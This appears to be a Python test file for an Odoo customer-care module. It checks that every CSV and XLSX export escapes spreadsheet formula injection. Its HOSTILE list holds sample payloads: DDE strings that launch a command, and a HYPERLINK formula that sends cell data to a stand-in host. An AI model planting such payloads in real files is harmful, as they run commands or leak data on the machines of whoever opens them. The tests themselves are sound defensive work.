# Part of Customer Care. See LICENSE file for full copyright and licensing details.
import base64
import csv
import io
import re
import zipfile
from pathlib import Path
from unittest.mock import patch

import openpyxl

from odoo.fields import Command
from odoo.tests import HttpCase, freeze_time, tagged

from odoo.addons.customer_care.tools.cell_text import FORMULA
from odoo.addons.customer_care.tools.consent_file import Line

from .common_garage import GarageCommon
from .common_no_business import LONG_AGO

ROOT = Path(__file__).parents[1]
# What spreadsheets take for a formula, and what tries to end the cell before it.
HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?q="&A1;"click")',
    "+1+1",
    "-2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    '";=1+1;"',
)
NUMBER = re.compile(r"-?[\d., ]+")
# Every file of ours that writes a table, and the test below that reads it back.
WRITERS = {
    "models/customer_search_run_csv.py": "csv_of_a_data_search",
    "models/customer_search_run_xlsx.py": "xlsx_of_a_data_search",
    "models/customer_personal_data_page.py": "data_package",
    "models/customer_operation_no_business_file.py": "file_of_deleted_customers",
    "models/customer_consent_import_job.py": "list_of_consents_left_out",
    "wizards/customer_consent_import.py": "list_of_consents_left_out",
    "wizards/customer_change_area_code_preview.py": "list_of_telephone_numbers",
    "wizards/customer_note_print.py": "sheet_of_notes",
    "wizards/customer_asset_print.py": "sheet_of_vehicles",
    "wizards/customer_security_report.py": "sheet_of_functions",
    "controllers/import_template.py": "template_of_an_import",
}
# `tools` has the writers that these use; the engine's CSV is read by DuckDB alone.
OFFERED = {"consent_file.py", "note_sheet.py", "table_csv.py"}
INTERNAL = {"duplicate_engine.py"}
WRITES = re.compile(
    r"csv\.(?:Dict)?[wW]riter\(|\bworkbook\(|table_csv\.write\(|table_xlsx\.write\("
    r"|\bwrite_table\(|Workbook\(|FORMAT csv|table_xlsx if "
)


@tagged("post_install", "-at_install")
class TestFormulas(GarageCommon, HttpCase):
    """No file that leaves us begins a cell with a formula; each is read back."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.people = cls.env["res.partner"].create(
            [
                {
                    "name": text,
                    "street": text,
                    "street2": text,
                    "city": text,
                    "zip": text,
                    "function": text,
                    "comment": text,
                    "phone": text,
                    "country_id": cls.env.ref("base.pl").id,
                    "category_id": [Command.create({"name": text})],
                }
                for text in HOSTILE
            ]
        )
        cls.env["customer.note"].create(
            [
                {"partner_id": person.id, "name": person.name, "purpose": "sales"}
                for person in cls.people
            ]
        )
        cls.env.flush_all()
        # what is written past the form: no letter of it is tidied up
        for person, text in zip(cls.people, HOSTILE, strict=True):
            cls.env.cr.execute(
                "UPDATE res_partner SET name = %s, complete_name = %s, ref = %s"
                " WHERE id = %s",
                [text, text, text, person.id],
            )
            cls.env.cr.execute(
                "UPDATE customer_note SET name = %s WHERE partner_id = %s",
                [text, person.id],
            )
        cls.env.invalidate_all()

    # -- reading back ----------------------------------------------------------------

    def _csv(self, content, separator):
        """The rows of a CSV as a spreadsheet has them, none of them a formula."""
        text = content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
        self.assertTrue(rows)
        self.assertEqual({len(row) for row in rows}, {len(rows[0])}, "a cell was left")
        for row in rows:
            for cell in row:
                is_formula = cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)
                self.assertFalse(is_formula, cell)
                self.assertNotIn(cell, HOSTILE[:13])
        return rows

    def _assert_all(self, cells, texts=HOSTILE, mark="'"):
        """Each text is there, with its mark, whatever ends of lines became of."""
        cells = {str(cell).replace("\r", "\n") for cell in cells}
        for text in texts:
            with self.subTest(text):
                wanted = f"{mark}{text}" if text.startswith(FORMULA) else text
                self.assertIn(wanted.replace("\r", "\n"), cells)

    def _xlsx(self, content):
        """All cells of all sheets, none of them a formula for whoever opens it."""
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            for name in book.namelist():
                if name.startswith("xl/worksheets/"):
                    self.assertNotRegex(book.read(name).decode(), r"<f[ >/]")
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        self.assertTrue(cells)
        for cell in cells:
            self.assertNotEqual(cell.data_type, "f", cell.value)
        return [cell.value for cell in cells]

    # -- data searches ---------------------------------------------------------------

    def _search(self, **vals):
        paths = ("name", "ref", "street", "city", "phone", "comment", "category_id")
        return self.env["customer.search"].create(
            {
                "name": "=1+1 of the search",
                "domain": str([("id", "in", self.people.ids)]),
                "purpose_id": self.service.id,
                "column_ids": [
                    Command.create({"path": path, "label": f"={path}\r=1+1"})
                    for path in paths
                ],
                **vals,
            }
        )

    def test_csv_of_a_data_search(self):
        run = self._search()._run("csv")
        copied = run.file_ids.attachment_id.raw
        head, *rows = self._csv(copied, ",")
        self.assertEqual(head[0], "'=name\n=1+1")
        self.assertEqual(len(rows), len(HOSTILE))
        for place in range(4):
            self._assert_all(row[place] for row in rows)
        written = io.BytesIO()
        with patch.object(type(run), "_query_of_rows", lambda *_args: None):
            run._write_csv(written, 0, len(HOSTILE))
        self.assertEqual(self._csv(written.getvalue(), ",")[1:], rows)

    def test_csv_of_a_data_search_in_a_language_with_a_decimal_comma(self):
        self.env["res.lang"]._activate_lang("pl_PL")
        run = self._search().with_context(lang="pl_PL")._run("csv")
        _head, *rows = self._csv(run.file_ids.attachment_id.raw, ";")
        self._assert_all(row[0] for row in rows)

    def test_xlsx_of_a_data_search(self):
        run = self._search()._run("xlsx")
        cells = self._xlsx(run.file_ids.attachment_id.raw)
        self._assert_all(cells, mark="")

    # -- the other files -------------------------------------------------------------

    def test_data_package(self):
        for person in self.people[:9]:
            package = zipfile.ZipFile(
                io.BytesIO(person.with_user(self.user_level_2)._personal_data_archive())
            )
            tables = [name for name in package.namelist() if name.endswith(".csv")]
            self.assertGreater(len(tables), 1)
            cells = [
                cell
                for name in tables
                for row in self._csv(package.read(name), ",")
                for cell in row
            ]
            self._assert_all(cells, [person.name])

    def test_file_of_deleted_customers(self):
        people = self.env["res.partner"].create(
            [{"name": text, "street": text, "city": text} for text in HOSTILE]
        )
        self.env.flush_all()
        for person, text in zip(people, HOSTILE, strict=True):
            self.env.cr.execute(
                "UPDATE res_partner SET name = %s, ref = %s, create_date = %s"
                " WHERE id = %s",
                [text, text, LONG_AGO, person.id],
            )
        self.env.invalidate_all()
        wizards = self.env["customer.delete.without.invoice"]
        wizards = wizards.with_user(self.user_level_1)
        wizard = wizards.browse(wizards.action_open()["res_id"])
        wizard.write({"before": "2021-01-01", "mode": "delete"})
        wizard.action_preview()
        wizard.is_sure = True
        operation = self.env["customer.operation"].browse(wizard.action_run()["res_id"])
        self.env.invalidate_all()
        self.assertFalse(people.exists())
        file = self.env["ir.attachment"].search(
            [("res_model", "=", operation._name), ("res_id", "=", operation.id)]
        )
        _head, *rows = self._csv(file.raw, ",")
        for place in (0, 1, 4, 7):
            self._assert_all(row[place] for row in rows)

    def test_list_of_consents_left_out(self):
        rows = io.StringIO()
        table = csv.writer(rows, delimiter=";")
        table.writerow(["E-mail", "Source", "Words", "Answer"])
        table.writerows([text, text, text, text] for text in HOSTILE)
        wizard = (
            self.env["customer.consent.import"]
            .with_user(self.user_level_1)
            .create(
                {
                    "source": "file",
                    "purpose_id": self.marketing.id,
                    "channel": "email",
                    "file": base64.b64encode(rows.getvalue().encode()),
                }
            )
        )
        wizard.action_check()
        left = base64.b64decode(wizard.problem_file)
        found = self._csv(left, ";")
        texts = [text for text in HOSTILE if text == text.strip()]
        self._assert_all([cell for row in found for cell in row], texts)
        texts = HOSTILE[: len(Line._fields) - 1]
        line = [1, *texts]
        job = (
            self.env["customer.consent.import.job"]
            .sudo()
            .create({"problems": [[line, HOSTILE[0]], [line, HOSTILE[2]]]})
        )
        found = self._csv(base64.b64decode(job.problem_file), ";")
        self._assert_all([cell for row in found for cell in row], texts)

    def test_list_of_telephone_numbers(self):
        united_kingdom = self.env.ref("base.uk")
        self.env.company.country_id = united_kingdom
        people = self.people
        people.write({"country_id": united_kingdom.id, "city": "London"})
        people.phone = "0171 930 4832"
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE customer_phone SET number_e164 = '+441719304832',"
            " digits = '441719304832', is_understood = TRUE WHERE partner_id = ANY(%s)",
            [people.ids],
        )
        self.env.invalidate_all()
        wizards = self.env["customer.change.area.code"].with_user(self.user_level_2)
        wizard = wizards.create(
            {"old_code": "0171", "new_code": "0207", "country_id": united_kingdom.id}
        )
        wizard.action_find()
        wizard.line_ids.is_chosen = True
        wizard.action_preview()
        _head, *rows = self._csv(base64.b64decode(wizard.file), ",")
        self._assert_all(row[0] for row in rows)

    def test_sheet_of_notes(self):
        for kind in ("partner_id", "purpose"):
            wizard = (
                self.env["customer.note.print"]
                .with_user(self.user_level_1)
                .create({"kind": kind, "with_notes": True})
            )
            wizard.action_export()
            cells = self._xlsx(base64.b64decode(wizard.sheet))
            self._assert_all(cells, mark="")

    @freeze_time("2027-03-10 10:00:00")
    def test_sheet_of_vehicles(self):
        for person in self.people:
            vehicle = self._vehicle(person, name=person.name)
            self._service(vehicle, 10, reading=1000)
            person.is_fleet = True
        for kind in ("fleet", "analysis"):
            wizard = self._wizard(kind=kind)
            wizard.action_export()
            cells = self._xlsx(base64.b64decode(wizard.sheet))
        self.assertTrue(cells)

    def test_sheet_of_functions(self):
        for number, text in enumerate(HOSTILE):
            user = self._make_user(f"hostile{number}", "customer_care.level_5")
            user.partner_id.name = text
        functions = self.env["res.groups"]._customer_functions()
        texts = [text for text in HOSTILE if not text.startswith("-")]
        for function, text in zip(functions, texts, strict=False):
            function.write({"name": text, "comment": text})
        reports = self.env["customer.security.report"].with_user(self.user_level_1)
        report = reports.browse(reports.action_open()["res_id"])
        report.action_export()
        self._assert_all(self._xlsx(base64.b64decode(report.sheet)), mark="")

    def test_template_of_an_import(self):
        kind = self.env["customer.import"].search([], limit=1)
        columns = kind._template_columns()
        hostile = [
            column._replace(label=text, example=text)
            for column, text in zip(columns * len(HOSTILE), HOSTILE, strict=False)
        ]
        self.authenticate("level_1", "level_1x")
        with patch.object(type(kind), "_template_columns", lambda _self: hostile):
            for form in ("csv", "xlsx"):
                path = f"/customer_care/import_template/{kind.code}.{form}"
                answer = self.url_open(path)
                self.assertEqual(answer.status_code, 200)
                if form == "csv":
                    for row in self._csv(answer.content, ","):
                        self._assert_all(row)
                else:
                    self._assert_all(self._xlsx(answer.content), mark="")

    def test_every_file_that_writes_a_table_is_read_back(self):
        """A writer that is new fails here: it needs a test above."""
        found, offered = set(), set()
        for folder in ("models", "wizards", "controllers", "report", "tools"):
            for path in sorted((ROOT / folder).glob("*.py")):
                if WRITES.search(path.read_text()):
                    if folder == "tools":
                        offered.add(path.name)
                    else:
                        found.add(f"{folder}/{path.name}")
        self.assertEqual(found, set(WRITERS))
        self.assertEqual(offered, OFFERED | INTERNAL)
        for name in WRITERS.values():
            self.assertTrue(hasattr(self, f"test_{name}"), name)
